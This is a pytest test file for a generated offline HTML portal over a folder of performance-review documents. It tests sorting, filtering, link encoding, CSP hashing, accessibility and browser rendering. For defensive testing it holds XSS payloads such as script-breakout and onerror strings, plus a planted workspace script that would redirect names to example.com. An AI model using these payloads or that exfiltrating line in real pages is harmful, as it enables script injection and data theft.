"""The page over an output folder: true to its entries, safe against them, and working without a server."""

import hashlib
import html
import json
import re
import subprocess
from base64 import b64encode
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
from lxml import html as tree

from genplan.diagnostics import Diagnostic
from genplan.incremental.entries import Entry
from genplan.portal.page import render_index
from genplan.theme.brand import LogoFile
from genplan.theme.theme import Theme, load_theme

THEME = load_theme(None, "zh-CN").value
SCRIPT = THEME.files.find("portal/index.js").read_text("utf-8")
ENTRY = Entry(
    path="plan/2026-Q3/result/0007-测试甲-绩效考核结果.pdf",
    format="pdf",
    plan="plan",
    plan_title="社群运营专员绩效考核方案",
    department="社群运营部",
    period="2026-Q3",
    period_label="2026年第三季度",
    kind="result",
    kind_title="绩效考核结果",
    title="社群运营专员绩效考核结果",
    person_id="0007",
    person_name="测试甲",
    size=51_200,
)
HOSTILE = [
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'&\u2028\u2029<!--",
    "{{ 7*7 }}",
    "</noscript>",
    "{name}",
]
NAMES = ["a b#1?.pdf", "100%.pdf", "甲.pdf", "a+b&c;d=e.pdf", "%41.pdf", "a:b'\"<c>.pdf", "欧阳 · é.v1.2.pdf"]


def page(*entries: Entry, theme: Theme = THEME) -> str:
    text = render_index(entries, theme)
    assert isinstance(text, str)
    return text


def data(text: str) -> dict:
    return json.loads(re.search(r'<script type="application/json" id="data">(.*?)</script>', text, re.DOTALL)[1])


def themed(folder: Path, **files: str | bytes) -> Theme:
    (folder / "portal").mkdir(exist_ok=True)
    for name, content in files.items():
        (folder / "portal" / f"index.{name}").write_bytes(content.encode() if isinstance(content, str) else content)
    return load_theme(folder, "zh-CN").value


def plain(text: str) -> list[tuple[str, list[str]]]:
    """List what is shown where no script runs: words and links."""
    (part,) = re.findall(r"<noscript>(.*?)</noscript>", text, re.DOTALL)
    return [(item.text.strip(), [a.get("href") for a in item.iter("a")]) for item in tree.fromstring(part).iter("li")]


def test_files_of_one_document_stand_together_pdf_first():
    word = ENTRY._replace(path=ENTRY.path.replace(".pdf", ".docx"), format="docx", size=12)
    big = ENTRY._replace(path=ENTRY.path.replace(".pdf", ".html"), format="html", size=1_500_000)
    (document,) = data(page(big, word, ENTRY))["documents"]
    assert document[0] == ENTRY.path.removesuffix(".pdf")
    assert document[-2] == [["PDF", ".pdf", "50 KB"], ["DOCX", ".docx", "1 KB"], ["HTML", ".html", "1.4 MB"]]


def test_a_point_in_a_name_parts_no_document():
    one, other = (ENTRY._replace(path=f"p/v1.{number}.pdf") for number in (1, 2))
    assert [document[0] for document in data(page(one, other))["documents"]] == ["p/v1.1", "p/v1.2"]


def test_a_format_of_another_version_is_listed_too():
    unknown = ENTRY._replace(path="p/a.odt", format="odt")
    assert data(page(unknown, ENTRY._replace(path="p/a.pdf")))["documents"][0][-2] == [["PDF", ".pdf", "50 KB"], ["ODT", ".odt", "50 KB"]]


def test_periods_follow_each_other_and_not_their_names():
    quarters = [("2026-Q2", "2026年第二季度"), ("2026-Q3", "2026年第三季度"), ("2025", "2025年度"), ("2026-Q1", "2026年第一季度"), ("", "")]
    entries = [ENTRY._replace(path=f"{n}.pdf", period=period, period_label=label) for n, (period, label) in enumerate(quarters)]
    assert data(page(*entries))["period"] == ["", "2025年度", "2026年第一季度", "2026年第二季度", "2026年第三季度"]


def test_documents_stand_by_plan_and_in_it_by_period_and_in_that_by_kind():
    places = [
        ("b", "2026-Q1", "result"),
        ("a", "2026-Q3", "result"),
        ("a", "2026-Q1", "summary"),
        ("a", "2026-Q2", "duties"),
        ("a", "", "scheme"),
    ]
    entries = [
        ENTRY._replace(path=f"{9 - n}.pdf", plan=plan, period=period, period_label=f"{9 - n}", kind=kind)
        for n, (plan, period, kind) in enumerate([*places, ("a", "2026-Q1", "duties"), ("a", "2026-Q1", "unknown")])
    ]
    ordered = [document[0] for document in data(page(*entries))["documents"]]
    assert ordered == ["5", "4", "7", "3", "6", "8", "9"]
    assert [links for _, links in plain(page(*reversed(entries)))] == [[f"{name}.pdf"] for name in ordered]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_name_becomes_markup(hostile: str):
    text = page(ENTRY._replace(person_name=hostile, title=hostile, department=hostile, plan_title=hostile))
    assert data(text)["documents"][0][1] == hostile
    assert data(text)["department"] == [hostile]
    assert len(re.findall(r"<script", text)) == len(re.findall(r"</script", text)) == 2
    assert text.count("</noscript") == 1
    assert "<img src=x" not in text
    assert hostile in html.unescape(text.split("<noscript>")[1].split("</noscript>")[0])


@pytest.mark.parametrize("hostile", HOSTILE)
def test_data_holds_nothing_that_html_or_javascript_reads(hostile: str):
    text = page(ENTRY._replace(title=hostile))
    embedded = text.split('id="data">')[1].split("</script>")[0]
    assert not set("<>&\u2028\u2029") & set(embedded)


@pytest.mark.parametrize("name", NAMES)
def test_links_survive_any_name(name: str):
    ((_, (link,)),) = plain(page(ENTRY._replace(path=f"社群/{name}")))
    assert re.fullmatch(r"[A-Za-z0-9_.~/-]+|%[0-9A-F]{2}", re.sub(r"%[0-9A-F]{2}", "", link))
    assert unquote(link) == f"社群/{name}"


def test_the_page_fetches_nothing():
    text = page(ENTRY)
    assert "default-src 'none'" in text
    assert not re.search(r'(?:src|href)="(?!data:|plan/)', text)
    assert "url(" not in text
    assert "@import" not in text


def test_only_the_theme_s_script_may_run():
    text = page(ENTRY)
    script = text.rpartition("<script>")[2].partition("</script>")[0]
    allowed = re.search(r"script-src '([^']*)'", text)[1]
    assert allowed == "sha256-" + b64encode(hashlib.sha256(script.encode()).digest()).decode()


def test_the_script_makes_no_markup():
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|Function\(|fetch\(|import\b", SCRIPT)


def test_same_entries_same_page():
    other = ENTRY._replace(path="plan/2026-Q3/result/0008.pdf", person_id="0008")
    assert page(ENTRY, other) == page(other, ENTRY)


def test_documents_are_listed_without_scripts_too():
    other = ENTRY._replace(path="p/方案.docx", format="docx", title="方案", person_id="", person_name="", period="", period_label="")
    assert plain(page(ENTRY, other)) == [
        ("方案 · 绩效考核结果 · 社群运营专员绩效考核方案 · 社群运营部", [quote("p/方案.docx")]),
        (
            "社群运营专员绩效考核结果 · 测试甲 · 0007 · 绩效考核结果 · 社群运营专员绩效考核方案 · 2026年第三季度 · 社群运营部",
            [quote(ENTRY.path)],
        ),
    ]


def test_a_workspace_brings_its_own_styles(tmp_path: Path):
    text = page(ENTRY, theme=themed(tmp_path, css="b { content: '</style>' }\r\n"))
    assert "b { content: '<\\/style>' }\n" in text


def test_a_workspace_brings_no_script_and_no_template_of_its_own(tmp_path: Path):
    (tmp_path / "portal").mkdir()
    (tmp_path / "portal" / "index.js").write_text("location = 'https://example.com/?' + names", encoding="utf-8")
    (tmp_path / "portal" / "index.html.j2").write_text("<script src='https://example.com/x.js'></script>", encoding="utf-8")
    theme, found = load_theme(tmp_path, "zh-CN")
    assert theme is not None
    named = f"{tmp_path.name}/portal/index"
    assert [(each.code, each.span.file) for each in found] == [("GP549", f"{named}.html.j2"), ("GP549", f"{named}.js")]
    text = page(ENTRY, theme=theme)
    assert "example.com" not in text
    assert SCRIPT.strip()[:200] in text


def test_styles_that_are_no_text_are_said(tmp_path: Path):
    found = render_index([ENTRY], themed(tmp_path, css=b"\xff\xfe"))
    assert isinstance(found, Diagnostic)
    assert (found.code, found.span.file) == ("GP002", "templates/portal/index.css")


def test_a_logo_that_went_away_is_said(tmp_path: Path):
    gone = replace(THEME, brand=replace(THEME.brand, logos={"medium": LogoFile("gone.png", tmp_path / "gone.png", "标志")}))
    found = render_index([ENTRY], gone)
    assert isinstance(found, Diagnostic)
    assert found.code == "GP001"


def test_no_logo_no_picture():
    assert "<img" not in page(ENTRY, theme=replace(THEME, brand=replace(THEME.brand, logos={})))


@pytest.mark.parametrize(
    ("primary", "on_primary", "accent"),
    [("#1f4e79", "#ffffff", "#1f4e79"), ("#ffc400", "#1f2933", "#1f2933"), ("#000000", "#ffffff", "#000000")],
)
def test_text_is_readable_in_any_colour_of_a_brand(primary: str, on_primary: str, accent: str):
    brand = replace(THEME.brand, colors=THEME.brand.colors | {"primary": primary})
    text = page(ENTRY, theme=replace(THEME, brand=brand))
    assert f"--on-primary: {on_primary}; --accent: {accent};" in text


@pytest.fixture(scope="module")
def shown(require_tool: Callable[[str], str], tmp_path_factory: pytest.TempPathFactory) -> Callable[..., tree.HtmlElement]:
    """Open a page of entries as a file, at a view, and give what the browser made of it."""
    chromium = require_tool("chromium")

    def show(entries: list[Entry], view: str = "", play: str = "") -> tree.HtmlElement:
        folder = tmp_path_factory.mktemp("页 面")
        (folder / "index.html").write_text(played(page(*entries), play), "utf-8")
        options = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
        options += ["--disable-component-update", "--disable-sync", f"--user-data-dir={folder / 'profile'}", "--dump-dom"]
        command = [chromium, *options, f"{(folder / 'index.html').as_uri()}#{view}"]
        return tree.fromstring(subprocess.run(command, capture_output=True, check=True, timeout=120).stdout.decode())

    return show


def played(text: str, play: str) -> str:
    """Let a script of the test's run after the page's own, as no workspace can."""
    both = SCRIPT + play
    hashes = [b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in (SCRIPT, both)]
    assert SCRIPT in text
    assert hashes[0] in text
    return text.replace(SCRIPT, both).replace(*hashes)


def texts(document: tree.HtmlElement, path: str) -> list[str]:
    return [element.text_content() for element in document.xpath(path)]


def people(document: tree.HtmlElement) -> list[str]:
    return texts(document, '//tbody[@id="rows"]/tr/td[1]/div/span[last()]')


def is_hidden(document: tree.HtmlElement, name: str) -> bool:
    return "hidden" in document.get_element_by_id(name).attrib


def person(number: str, name: str, **other: str) -> Entry:
    entry = ENTRY._replace(person_id=number, person_name=name, **other)
    return entry._replace(path=f"{entry.plan}/{entry.period}/{number}.{entry.format}")


COMPANY = [
    person("0001", "李婉清"),
    person("0001", "李婉清", format="docx"),
    person("0002", "Alice Zhang", period="2026-Q2", period_label="2026年第二季度"),
    person("0003", "张伟", plan="sales", plan_title="销售方案", department="销售部"),
    person("0004", "王芳", kind="scorecard", kind_title="绩效考核表", format="docx"),
    person("0005", "李 伟", period="2026-Q1", period_label="2026年第一季度", format="docx"),
]
VIEWS = [
    ("", ["0004", "0001", "0003", "0002", "0005"]),
    ("q=0003", ["0003"]),
    ("q=ALICE", ["0002"]),
    ("q=%EF%BC%A1lice", ["0002"]),
    (f"q={quote('伟 李')}", ["0005"]),
    (f"q={quote('　销售　')}", ["0003"]),
    (f"q={quote('方案 结果')}&format=DOCX", ["0004", "0001", "0005"]),
    (f"plan={quote('销售方案')}", ["0003"]),
    (f"period={quote('2026年第二季度')}", ["0002"]),
    (f"kind={quote('绩效考核表')}", ["0004"]),
    (f"department={quote('社群运营部')}&format=PDF", ["0001", "0002"]),
    (f"q={quote('李')}&period={quote('2026年第三季度')}", ["0001"]),
    ("sort=period", ["0005", "0002", "0004", "0001", "0003"]),
    ("sort=department&down=1", ["0003", "0005", "0002", "0004", "0001"]),
    ("sort=nonsense&other=1", ["0004", "0001", "0003", "0002", "0005"]),
    ("q=nobody", []),
    (f"plan={quote('销售方案')}&format=DOCX", []),
    ("plan=gone", []),
]


@pytest.fixture(scope="module")
def seen(shown: Callable) -> dict[str, dict]:
    """Go through all views on one page, and note what it shows at each."""
    play = """
      document.title = JSON.stringify(VIEWS.map((view) => {
        history.replaceState(null, "", `#${view}`);
        dispatchEvent(new Event("hashchange"));
        const people = [...document.querySelectorAll("#rows .person span:last-child")].map((span) => span.textContent);
        const [reset, nothing] = ["reset", "nothing"].map((id) => !document.getElementById(id).hidden);
        return { people, count: document.getElementById("count").textContent, reset, nothing };
      }));
    """
    play = play.replace("VIEWS", json.dumps([view for view, _ in VIEWS]))
    notes = json.loads(shown(COMPANY, play=play).findtext("head/title"))
    return dict(zip([view for view, _ in VIEWS], notes, strict=True))


@pytest.mark.parametrize(("view", "found"), VIEWS)
def test_the_address_names_what_is_shown(seen: dict[str, dict], view: str, found: list[str]):
    limited = bool(re.search(r"\b(q|plan|period|kind|department|format)=", view))
    count = f"找到 {len(found)} 份文件，共 5 份" if limited else "共 5 份文件"
    assert seen[view] == {"people": found, "count": count, "reset": limited, "nothing": not found}


@pytest.mark.parametrize(("view", "found"), [VIEWS[0], VIEWS[6], VIEWS[-1]])
def test_a_bookmark_opens_at_its_view(shown: Callable, view: str, found: list[str]):
    document = shown(COMPANY, view)
    assert people(document) == found
    assert not is_hidden(document, "app")
    assert not document.xpath('//*[@id="unready"]')


def test_filters_count_what_each_choice_would_find(shown: Callable):
    document = shown(COMPANY, f"kind={quote('绩效考核结果')}&department={quote('社群运营部')}")
    assert texts(document, '//select[@id="period"]/option') == ["全部", "2026年第三季度（1）", "2026年第二季度（1）", "2026年第一季度（1）"]
    assert texts(document, '//select[@id="kind"]/option') == ["全部", "绩效考核表（1）", "绩效考核结果"]
    assert texts(document, '//select[@id="department"]/option') == ["全部", "社群运营部", "销售部（1）"]
    assert texts(document, '//select[@id="plan"]/option[@disabled]') == ["销售方案（0）"]


def test_a_row_says_and_offers_all(shown: Callable):
    (row,) = shown(COMPANY, f"q=0001&sort=period&period={quote('2026年第三季度')}").xpath('//tbody[@id="rows"]/tr')
    assert texts(row, "td[position() < 6]") == [
        "社群运营专员绩效考核结果李婉清0001", "绩效考核结果", "社群运营专员绩效考核方案", "2026年第三季度", "社群运营部"
    ]  # fmt: skip
    assert texts(row, 'td[@class="files"]/a') == ["PDF 50 KB", "DOCX 50 KB"]
    assert row.xpath('td[@class="files"]/a[1]/@aria-label') == ["下载 PDF（50 KB）：社群运营专员绩效考核结果 李婉清 0001"]
    assert row.xpath('td[@class="files"]/a/@href') == ["plan/2026-Q3/0001.pdf", "plan/2026-Q3/0001.docx"]


def test_the_browser_s_links_lead_to_the_files(shown: Callable):
    document = shown([ENTRY._replace(path=f"社 群/{name}") for name in NAMES])
    links = document.xpath('//td[@class="files"]/a/@href')
    assert sorted(map(unquote, links)) == sorted(f"社 群/{name}" for name in NAMES)
    assert not re.search(r"[^A-Za-z0-9_.!~*'()/%-]", "".join(links))


def test_the_browser_shows_names_as_they_are(shown: Callable):
    document = shown([person(str(n), hostile, title=hostile, plan_title=hostile, department=hostile) for n, hostile in enumerate(HOSTILE)])
    assert sorted(texts(document, '//td[@class="department"]')) == sorted(HOSTILE)
    assert sorted(option.get("value") for option in document.xpath('//select[@id="plan"]/option[@value != ""]')) == sorted(HOSTILE)
    assert not document.xpath("//tbody//img | //tbody//script | //*[@onerror]")


def test_many_documents_come_a_page_at_a_time(shown: Callable):
    document = shown([person(f"{number:04}", "甲") for number in range(1234)])
    assert people(document) == [f"{number:04}" for number in range(100)]
    assert texts(document, '//p[@id="count"]') == ["共 1,234 份文件"]
    assert texts(document, '//button[@id="more"]') == ["再显示 100 份（还有 1,134 份）"]


def test_nothing_built_is_said(shown: Callable):
    document = shown([])
    assert not is_hidden(document, "empty")
    assert is_hidden(document, "nothing")


def test_controls_work_by_hand(shown: Callable):
    """Play a user: type, choose, sort, show more, clear; the view stands in the address each time."""
    play = """
      const at = (id) => document.getElementById(id);
      const log = [];
      const note = () => log.push([decodeURIComponent(location.hash), document.querySelectorAll("#rows tr").length]);
      const set = (id, value, more) => {
        at(id).value = value;
        at(id).dispatchEvent(new InputEvent("input", { bubbles: true, ...more }));
        note();
      };
      const press = (element) => { element.click(); note(); };
      set("q", "li", { isComposing: true });
      set("q", "甲");
      set("format", "PDF");
      press(document.querySelector('[data-sort="title"]'));
      press(document.querySelector('[data-sort="title"]'));
      press(document.querySelector('[data-sort="period"]'));
      press(at("more"));
      log.push(document.activeElement.closest("tr").rowIndex);
      press(at("reset"));
      log.push(document.activeElement.id);
      document.title = JSON.stringify(log);
    """
    document = shown([person(f"{number:04}", "甲") for number in range(150)], play=play)
    assert json.loads(document.findtext("head/title")) == [
        ["", 100],
        ["#q=甲", 100],
        ["#q=甲&format=PDF", 100],
        ["#q=甲&format=PDF&sort=title", 100],
        ["#q=甲&format=PDF&sort=title&down=1", 100],
        ["#q=甲&format=PDF", 100],
        ["#q=甲&format=PDF", 150],
        101,
        ["", 100],
        "q",
    ]


def test_every_control_has_a_name(shown: Callable):
    document = shown(COMPANY)
    for control in document.xpath("//input | //select"):
        assert control.getparent().tag == "label"
        assert control.getparent().text.strip()
    assert all(button.text_content().strip() for button in document.xpath("//button[not(@hidden)]"))
    assert [head.get("aria-sort") for head in document.xpath("//th[button]")] == ["none", "none", "none", "descending", "none"]
    assert document.get_element_by_id("count").get("aria-live") == "polite"
